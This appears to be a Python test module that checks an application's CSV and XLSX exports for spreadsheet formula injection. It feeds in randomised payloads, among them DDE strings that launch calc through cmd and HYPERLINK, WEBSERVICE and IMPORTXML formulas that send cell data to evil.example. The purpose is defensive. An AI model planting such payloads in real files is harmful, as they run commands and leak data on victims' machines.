"""T25: texts that spreadsheets take for formulas, in every cell of an export."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator
from pathlib import Path

from openpyxl import load_workbook

from core.export.csv import CsvStyle, csv_bytes
from core.export.tables import overview
from core.export.xlsx import xlsx_bytes
from tests.core.export.made import TYPES, WORDS, document, invoice

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
BEGINNINGS = ("", "", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00", "\x1b", "\r\n")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"Total")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "A1",
    '"x"',
    ";=1+1",
    ",=1+1",
    '",=1+1',
    "1\r\n=1+1",
)
HARMLESS = frozenset({"s", "n", "d", "inlineStr"})
NEGATIVE = "-1234.50"


def formulas(numbers: range, _: Path) -> Iterator[str]:
    """One text for each number, in documents exported as CSV of several styles and as XLSX."""
    for number in numbers:
        luck = random.Random(number)
        text = f"{luck.choice(BEGINNINGS)}{luck.choice(BEGINNINGS)}{luck.choice(SIGNS)}{luck.choice(BODIES)}"
        papers = [document(invoice(text), f"{text}.pdf".replace("/", "_"))]
        style = CsvStyle(luck.choice(",;\t"), luck.choice(".,"), bom=luck.random() < 0.5)
        bad = [
            *_of_csv(csv_bytes(overview(papers, TYPES, WORDS), style), style),
            *_of_xlsx(xlsx_bytes(papers, TYPES, WORDS)),
        ]
        yield f"{text!r}: {bad}" if bad else ""


def _of_csv(data: bytes, style: CsvStyle) -> Iterator[str]:
    """Cells that begin a formula, however blanks before them are taken; and negative numbers that are none."""
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=style.delimiter))
    cells = [cell for row in table for cell in row]
    for cell in cells:
        bare = cell.strip(" \t\r\n\x00\u00a0\u3000\ufeff\u200b")
        number = NEGATIVE.replace(".", style.decimal)
        if bare and bare[0] in SIGNS and cell != number:
            yield cell
    if number not in cells:
        yield f"{number} is no number any more"


def _of_xlsx(data: bytes) -> Iterator[str]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    yield from (f"{cell.coordinate}: {cell.data_type}" for cell in cells if cell.data_type not in HARMLESS)
    yield from (f"{cell.coordinate}: a link" for cell in cells if cell.hyperlink)
    if not any(cell.value == float(NEGATIVE) for cell in cells):
        yield f"{NEGATIVE} is no number any more"
